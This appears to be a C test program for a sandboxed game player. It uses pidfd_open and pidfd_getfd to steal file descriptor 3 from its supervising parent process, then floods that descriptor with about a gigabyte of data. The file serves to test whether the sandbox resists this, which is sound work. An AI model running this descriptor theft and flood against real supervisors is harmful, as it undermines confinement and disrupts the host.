/*
 * Above a player in a namespace is a process of the host's, with a line to it: takes a copy of that, as a debugger
 * may, and writes a gigabyte. Where debuggers may not, nothing comes of it.
 */
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  static char flood[65536];
  char deal[4];
  if (write(1, "n", 1) != 1 || read(0, deal, sizeof deal) < 1) return 1;
  int supervisor = (int)syscall(SYS_pidfd_open, getppid(), 0);
  int line = (int)syscall(SYS_pidfd_getfd, supervisor, 3, 0);
  memset(flood, 'x', sizeof flood);
  for (int written = 0; line >= 0 && written < 16384; written++)
    if (write(line, flood, sizeof flood) < 0) break;
  for (;;) pause();
}
